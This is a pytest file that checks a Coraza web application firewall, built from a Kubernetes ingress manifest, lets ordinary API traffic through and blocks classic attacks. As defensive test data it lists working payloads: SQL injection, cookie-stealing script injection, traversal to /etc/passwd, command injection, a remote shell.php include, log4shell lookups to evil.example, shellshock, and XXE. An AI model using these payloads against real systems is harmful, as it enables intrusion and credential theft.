"""The firewall of `deploy/kubernetes/ingress.yaml`: ordinary use of every kind passes it, and classic attacks do not.

The directives are taken out of the manifest, so what is tried is what is deployed, in Coraza with the OWASP core rule
set (`main.go` here stands where Envoy would) before a whole platform. Wants Go; without it only the manifest's form is
looked at, in `tests/test_deploy.py`.
"""

import asyncio
import base64
import gzip
import hmac
import json
import os
import shutil
import subprocess
from collections.abc import Generator, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from hashlib import sha256
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx
import pytest
import websockets
import yaml
from bench.lib.house import House, house
from tests.api.changing import LONG, MADE, WORDS, Attempts, Operation, operations

ROOT = Path(__file__).parent.parent.parent
HERE = Path(__file__).parent
MANIFEST = ROOT / "deploy" / "kubernetes" / "ingress.yaml"
SHARED = Path(os.environ.get("RECOUP_SHARED", "/nowhere"))
HOST = {"Host": "recoup.example.com"}
HOSTILE = "1' OR '1'='1'; drop table carts; -- <script>alert(1)</script> ../../etc/passwd ${jndi:ldap://x/a};cat x"
PASSWORD = "' or 1=1 --<script>alert(`id`)</script>;cat /etc/passwd"
# Everything is compiled once, at the lowest priority, on a machine that does other things beside.
pytestmark = [pytest.mark.api, pytest.mark.timeout(1_800)]


def directives() -> str:
    parts = {part["kind"]: part for part in yaml.safe_load_all(MANIFEST.read_text())}
    config = parts["WasmPlugin"]["spec"]["pluginConfig"]
    return "\n".join(config["directives_map"][config["default_directives"]])


@pytest.fixture(scope="module")
def program(tmp_path_factory: pytest.TempPathFactory) -> Path:
    go = shutil.which("go")
    if go is None:
        pytest.skip("no Go here to build the firewall with")
    made = tmp_path_factory.mktemp("edge") / "edge"
    environ = {"HOME": str(made.parent), **os.environ, "GOTOOLCHAIN": "local", "GOMAXPROCS": "1"}
    # An operator that no rule uses, and that a quarter of what there is to compile is there for.
    spared = "-tags=coraza.disabled_operators.validateSchema"
    command = ["nice", "-n", "19", go, "build", "-buildvcs=false", spared, "-ldflags=-s -w", "-o", str(made), "."]
    done = subprocess.run(command, cwd=HERE, env=environ, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return made


@contextmanager
def standing_before(upstream: str, program: Path, folder: Path) -> Generator[str]:
    """The firewall as a process of its own; what it keeps of a request goes into `audit`, why it refused to `why`."""
    with (folder / "why").open("wb") as why:
        process = subprocess.Popen(
            [program, upstream], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=why, text=True
        )
        assert process.stdin is not None
        assert process.stdout is not None
        process.stdin.write(f"{directives()}\nSecAuditLog {folder / 'audit'}\n")
        process.stdin.close()
        try:
            url = process.stdout.readline().strip()
            assert url, (folder / "why").read_text()
            yield url
        finally:
            process.kill()
            process.wait(30)


class Door:
    """The public door behind its firewall."""

    def __init__(self, running: House, url: str, folder: Path) -> None:
        self.running, self.url, self.folder = running, url, folder
        self.first: dict[str, str] = json.loads((running.folder / "first-run.json").read_bytes())
        self.client = httpx.Client(base_url=url, headers=HOST, timeout=180)

    def ask(self, method: str, path: str, **more: Any) -> httpx.Response:
        headers = more.pop("headers", {})
        if "Authorization" not in headers:
            headers = {"X-Api-Key": self.first["secret_key"], **headers}
        # As it stands: httpx would take the dots out of a path.
        return self.client.request(method, "/", headers=headers, extensions={"target": path.encode()}, **more)

    def why(self) -> str:
        return "\n".join((self.folder / "why").read_text().splitlines()[-8:])

    def sign_in(self) -> dict[str, str]:
        proof = {"email": self.first["admin_email"], "password": self.first["admin_password"]}
        answer = self.ask("POST", "/api/auth/login", json=proof)
        assert answer.status_code == 200, self.why()
        return {"Authorization": f"Bearer {answer.json()['access_token']}"}


@pytest.fixture(scope="module")
def door(program: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
    folder = tmp_path_factory.mktemp("firewall")
    # However slow the machine: here it is asked who lets a request pass, not how soon it is answered.
    patience = {f"RECOUP_PLATFORM__{name}_SECONDS": "120" for name in ("CALL", "PATIENT")}
    with (
        house(None, **patience) as running,
        standing_before(f"http://127.0.0.1:{running.port}", program, folder) as url,
    ):
        yield Door(running, url, folder)


def has_passed(answer: httpx.Response) -> bool:
    """Whether the platform gave this answer: each of its own says how it is to be read."""
    return "x-content-type-options" in answer.headers


def event() -> dict[str, object]:
    return {
        "event_id": str(uuid4()), "type": "page_viewed", "anonymous_id": "visitor-1",
        "occurred_at": datetime.now(UTC).isoformat(), "properties": {"searched": HOSTILE},
    }  # fmt: skip


BATCH = json.dumps([event() for _ in range(20)]).encode()
LINES = b"\n".join(json.dumps(event()).encode() for _ in range(20))
TRACKED = {"type": "track", "event": "Products Searched", "anonymousId": "a", "properties": {"query": HOSTILE}}
SCHEMA = json.dumps({"type": "object", "title": "select * from carts", "pattern": "^(?:<script>|../)+$"})
WHEN = {"any": [{"field": "type", "operator": "equals", "value": HOSTILE}]}
RULE = {"when": [{"attribute": "plan", "values": ["select", "union of two"]}], "serve": [{"variant": "on"}]}
ADDRESS = "/api/events/batch"
NOBODY = uuid4()


def typed(kind: str, **more: str) -> dict[str, str]:
    return {"Content-Type": kind, **more}


ORDINARY: dict[str, tuple[str, str, dict[str, Any]]] = {
    "an event": ("POST", "/api/events", {"json": event()}),
    "a batch": ("POST", ADDRESS, {"content": BATCH, "headers": typed("application/json")}),
    "a batch in gzip": (
        "POST", ADDRESS,
        {"content": gzip.compress(BATCH), "headers": typed("application/json", **{"Content-Encoding": "gzip"})},
    ),
    "lines": ("POST", ADDRESS, {"content": LINES, "headers": typed("application/x-ndjson")}),
    "lines by another name": ("POST", ADDRESS, {"content": LINES, "headers": typed("application/jsonl")}),
    "a beacon of a page": ("POST", ADDRESS, {"content": BATCH, "headers": typed("text/plain;charset=UTF-8")}),
    "a batch of nameless type": ("POST", ADDRESS, {"content": BATCH}),
    "protobuf": ("POST", ADDRESS, {"content": b"", "headers": typed("application/x-protobuf")}),
    "protobuf by another name": ("POST", ADDRESS, {"content": b"", "headers": typed("application/protobuf")}),
    "Segment": ("POST", "/v1/batch", {"json": {"batch": [TRACKED], "writeKey": "x"}}),
    "Segment in gzip": (
        "POST", "/v1/t",
        {"content": gzip.compress(json.dumps(TRACKED).encode()),
         "headers": typed("application/json", **{"Content-Encoding": "gzip", "Authorization": "Basic cmtfOg=="})},
    ),
    "GraphQL": ("POST", "/api/graphql", {"json": {"query": "query { schemas(prefix: \"<b>' or 1=1 --\") { name } }"}}),
    "a schema": ("POST", "/api/schemas", {"json": {"name": "searched", "schema": SCHEMA}}),
    "the registry": (
        "POST", "/api/registry/subjects/searched-value/versions",
        {"content": json.dumps({"schema": SCHEMA, "schemaType": "JSON"}),
         "headers": typed("application/vnd.schemaregistry.v1+json", Accept="application/vnd.schemaregistry.v1+json")},
    ),
    "a rule tried": ("POST", "/api/routing/rules/try", {"json": {"event": {"type": HOSTILE}, "when": WHEN}}),
    "a destination": (
        "POST", "/api/routing/destinations",
        {"json": {"name": "erp", "kind": "webhook", "url": "https://1.1.1.1/hook?x=../a"}},
    ),
    "a flag with a rule": (
        "PUT", "/api/feature-flags/winback",
        {"json": {"description": "select who is asked, and from where; union of two lists (A & B)",
                  "variants": {"on": True, "off": False}, "rules": [RULE], "serve": [{"variant": "off"}]}},
    ),
    "a dead letter mended": ("POST", f"/api/dlq/{NOBODY}/retry", {"json": {"body": event(), "dry_run": True}}),
    "a store with an apostrophe": ("POST", "/api/stores", {"json": {"name": "Bob's Bikes & Sons; since 1970 -- Lund"}}),
    "a note by a person": (
        "POST", "/api/anomalies/report",
        {"json": {"subject": "orders", "detail": "From 9 on we don't see any, and select few after"}},
    ),
    "settings": ("PUT", "/api/config", {"json": {"shop_url": "https://shop.example/de?x=1", "name": "L'Éclair"}}),
    "an awkward id": ("GET", "/api/carts/2026%2F7%3Fx%20k%C3%A4se%23", {}),
    "a filter": ("GET", "/api/audit-logs?who=ada%40example.com&since=2026-01-01T00:00:00%2B02:00", {}),
    "a list with commas": ("GET", "/api/dlq?field=items%5B0%5D.price&status=open", {}),
    "a preflight": (
        "OPTIONS", ADDRESS, {"headers": {"Origin": "https://shop.example", "Access-Control-Request-Method": "POST"}},
    ),
    "a browser's headers": (
        "GET", "/",
        {"headers": {
            "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0",
            "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
            "Sec-Fetch-Mode": "navigate", "Accept-Language": "sv-SE,sv;q=0.9", "Upgrade-Insecure-Requests": "1",
            "Referer": "https://www.example/?q=select+a+bike",
        }},
    ),
    "a condition": ("GET", "/api/config", {"headers": {"If-None-Match": '"17"', "Idempotency-Key": str(NOBODY)}}),
    "a trace": (
        "GET", "/api/carts", {"headers": {"traceparent": f"00-{'1a' * 16}-{'2b' * 8}-01", "X-Request-Id": str(NOBODY)}},
    ),
}  # fmt: skip


MEANT = {
    "/api/carts/2026%2F7%3Fx%20k%C3%A4se%23": {404},
    f"/api/dlq/{NOBODY}/retry": {404},
    "/api/stores": {403},
    "/v1/t": {401},
}
"""What the platform says of what is not there, to a key that may not, and to a key that is none."""


@pytest.mark.parametrize(("method", "path", "more"), ORDINARY.values(), ids=ORDINARY)
def test_ordinary_use_passes(door: Door, method: str, path: str, more: dict[str, Any]):
    answer = door.ask(method, path, **more)
    assert has_passed(answer), door.why()
    assert answer.status_code in {200, 201, 202, 204, *MEANT.get(path, ())}, answer.text


def test_a_long_webhook_passes(door: Door):
    answer = door.ask("POST", "/webhooks/shopify/somebody", content=b" " * 3_000_000, headers=typed("application/json"))
    assert has_passed(answer), door.why()


PROOFS = {
    "login": {"email": "ada@example.com", "password": PASSWORD},
    "password": {"current_password": PASSWORD, "new_password": PASSWORD},
    "password/reset": {"token": "t", "password": PASSWORD},
    "invitations/accept": {"token": "t", "password": PASSWORD},
    "second-factor": {"password": PASSWORD},
    "second-factor/disable": {"password": PASSWORD, "code": "123456"},
    "second-factor/recovery-codes": {"password": PASSWORD, "code": "123456"},
}


@pytest.mark.parametrize("place", PROOFS)
def test_a_password_may_be_anything_and_is_written_nowhere(door: Door, place: str):
    answer = door.ask("POST", f"/api/auth/{place}", json=PROOFS[place])
    assert has_passed(answer), door.why()
    assert answer.is_client_error
    written = (door.folder / "audit").read_text() + (door.folder / "why").read_text()
    assert "alert(`id`)" not in written
    assert door.first["secret_key"] not in written


def test_what_the_console_asks_passes(door: Door):
    told = door.sign_in()
    made = door.ask("POST", "/api/stores", json={"name": "walked"}, headers=told).raise_for_status().json()
    door.client.params = {"store_id": made["store_id"]}
    try:
        walk(door, door.sign_in(), made["store_id"])
    finally:
        door.client.params = {}


def walk(door: Door, told: dict[str, str], store_id: str) -> None:
    """Every route there is, read and written, by somebody who has signed in."""
    document = door.ask("GET", "/docs/openapi.json").json()
    schemas = document["components"]["schemas"]
    read = [Operation("get", path, item["get"], schemas) for path, item in document["paths"].items() if "get" in item]
    attempts = Attempts(known={"store": store_id, **WORDS})
    for operation in (*read, *(each for each in operations(document) if each.name not in LONG)):
        url = operation.url(attempts.known)
        answer = door.client.request(operation.method, url, json=operation.body(), headers=told)
        assert has_passed(answer), (operation.name, door.why())
        if answer.is_success and operation.name in MADE:
            attempts.known[MADE[operation.name]] = str(next(iter(answer.json().values())))


@pytest.mark.parametrize(
    "path", ["/", "/docs", "/sdk/recoup.js", "/health", "/.well-known/paseto-keys", "/shop?key=rk_pub_x"]
)
def test_pages_pass(door: Door, path: str):
    assert has_passed(door.ask("GET", path)), door.why()


def test_a_socket_passes(door: Door):
    async def answered() -> dict[str, Any]:
        url = door.url.replace("http", "ws", 1) + "/api/events/stream"
        headers = {"X-Api-Key": door.first["secret_key"]}
        async with asyncio.timeout(60), websockets.connect(url, additional_headers=headers) as socket:
            await socket.send(json.dumps({"id": "1", "events": [event()]}))
            while (answer := json.loads(await socket.recv())).get("id") != "1":
                pass
            return answer

    assert asyncio.run(answered())["accepted"] == 1


@pytest.mark.skipif(not SHARED.exists(), reason="no recorded webhooks here")
def test_recorded_webhooks_pass(door: Door):
    secret = "hush-hush-hush-hush"
    for platform in ("shopify", "woocommerce"):
        assert door.ask("PUT", f"/api/webhooks/secrets/{platform}", json={"secret": secret}).is_success, door.why()
    recorded = sorted((SHARED / "data/webhooks").rglob("*.json"))
    recorded = [file for file in recorded if "schemas" not in file.parts and file.parent.name != "webhooks"]
    assert len(recorded) > 100
    for file in recorded[::4]:
        platform = "shopify" if "shopify" in file.parts else "woocommerce"
        answer = door.ask("POST", f"/webhooks/{platform}/{door.first['store_id']}", **delivery(platform, file, secret))
        assert has_passed(answer), (file, door.why())
        assert answer.status_code == 200, (file, answer.text)


def delivery(platform: str, file: Path, secret: str) -> dict[str, Any]:
    body = file.read_bytes()
    signature = base64.b64encode(hmac.new(secret.encode(), body, sha256).digest()).decode()
    said = {"shopify": ("X-Shopify", "Hmac-Sha256"), "woocommerce": ("X-WC-Webhook", "Signature")}[platform]
    topic = f"{file.parent.name}/{file.stem}" if platform == "shopify" else "order.updated"
    facts = {said[1]: signature, "Topic": topic, "Webhook-Id": str(uuid4()), "Delivery-Id": str(uuid4())}
    facts |= {"Shop-Domain": "a.myshopify.com", "Triggered-At": datetime.now(UTC).isoformat()}
    names = {f"{said[0]}-{name}": value for name, value in facts.items()}
    return {"content": body, "headers": typed("application/json", **names)}


INJECTION = "1' UNION SELECT password FROM users --"
SCRIPT = "<script>alert(document.cookie)</script>"
LOG4SHELL = "${jndi:ldap://evil.example/a}"
ATTACKS: dict[str, tuple[str, str, dict[str, Any]]] = {
    "SQL in a query": ("GET", "/api/carts?stage=1'%20UNION%20SELECT%20password%20FROM%20users--", {}),
    "SQL that is always true": ("GET", "/api/users?limit=1'%20or%20'1'='1'--%20", {}),
    "SQL that waits": ("GET", "/api/dlq?kind=1;select%20pg_sleep(10)--", {}),
    "a script in a query": ("GET", "/docs?q=%3Cscript%3Ealert(1)%3C/script%3E", {}),
    "a script in a path": ("GET", "/api/carts/%3Cscript%3Ealert(1)%3C%2Fscript%3E", {}),
    "traversal": ("GET", "/sdk/../../../../etc/passwd", {}),
    "traversal that is encoded": ("GET", "/sdk/..%2f..%2f..%2fetc%2fpasswd", {}),
    "traversal in a query": ("GET", "/api/carts?stage=../../../../etc/passwd", {}),
    "hidden files": ("GET", "/.git/config", {}),
    "the environment": ("GET", "/.env", {}),
    "a command in a query": ("GET", "/api/carts?stage=;cat%20/etc/passwd", {}),
    "a remote file": ("GET", "/api/carts?stage=http://203.0.113.9/shell.php", {}),
    "log4shell in a query": ("GET", "/api/carts?stage=$%7Bjndi:ldap://evil.example/a%7D", {}),
    "log4shell in a header": ("GET", "/api/carts", {"headers": {"X-Api-Version": LOG4SHELL}}),
    "log4shell in the agent": ("GET", "/", {"headers": {"User-Agent": LOG4SHELL}}),
    "a scanner": ("GET", "/", {"headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
    "another scanner": ("GET", "/", {"headers": {"User-Agent": "Nikto/2.5.0"}}),
    "shellshock": ("GET", "/", {"headers": {"User-Agent": "() { :; }; /bin/bash -c id"}}),
    "a script in a header": ("GET", "/", {"headers": {"Referer": f"https://x.example/{SCRIPT}"}}),
    "another method by a header": ("POST", "/api/users", {"json": {}, "headers": {"X-HTTP-Method-Override": "DELETE"}}),
    "a method nobody needs": ("TRACE", "/", {}),
    "SQL in an address": ("POST", "/api/auth/login", {"json": {"email": INJECTION, "password": "x"}}),
    "SQL in an invitation": ("POST", "/api/users", {"json": {"email": f"{INJECTION}@example.com", "role": "viewer"}}),
    "a script in a store's name": ("POST", "/api/stores", {"json": {"name": SCRIPT}}),
    "a script in a key's name": ("POST", "/api/api-keys", {"json": {"name": SCRIPT, "kind": "secret_key"}}),
    "log4shell in settings": ("PUT", "/api/config", {"json": {"name": LOG4SHELL}}),
    "a command in a note": ("POST", "/api/anomalies/report", {"json": {"subject": "a; cat /etc/passwd", "detail": ""}}),
    "SQL beside a password": ("POST", "/api/auth/login", {"json": {"email": "a", "password": "x", "code": INJECTION}}),
    "JSON by another name": (
        "PUT", "/api/config",
        {"content": json.dumps({"name": SCRIPT}), "headers": typed("application/vnd.schemaregistry+json")},
    ),
    "a body that is packed, at a door that looks": (
        "PUT", "/api/config",
        {"content": gzip.compress(json.dumps({"name": SCRIPT}).encode()),
         "headers": typed("application/json", **{"Content-Encoding": "gzip"})},
    ),
    "half a document": ("PUT", "/api/config", {"content": b'{"name": "', "headers": typed("application/json")}),
    "a form": ("POST", "/api/auth/login", {"data": {"email": INJECTION}}),
    "XML": ("POST", "/api/config", {"content": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
                                    "headers": typed("application/xml")}),
    "SQL in the query of an open door": ("POST", f"{ADDRESS}?x={INJECTION.replace(' ', '%20')}", {"json": []}),
    "log4shell in a header of an open door": ("POST", ADDRESS, {"json": [], "headers": {"X-Shop": LOG4SHELL}}),
    "a door that only begins like an open one": ("POST", "/api/eventsx", {"json": {"name": SCRIPT}}),
    "an open door left by dots": ("POST", "/api/events/../stores", {"json": {"name": SCRIPT}}),
    "an open door left by encoded dots": ("POST", "/api/events/%2e%2e/stores", {"json": {"name": SCRIPT}}),
    "an open door behind slashes": ("POST", "//api/stores?/api/events/", {"json": {"name": SCRIPT}}),
    "too much for a door that looks": ("PUT", "/api/config", {"json": {"name": "x" * 1_100_000}}),
}  # fmt: skip


@pytest.mark.parametrize(("method", "path", "more"), ATTACKS.values(), ids=ATTACKS)
def test_attacks_are_refused_before_the_platform(door: Door, method: str, path: str, more: dict[str, Any]):
    answer = door.ask(method, path, **more)
    assert not has_passed(answer), (answer.status_code, answer.text[:200])
    assert answer.status_code in {400, 403, 413}, door.why()
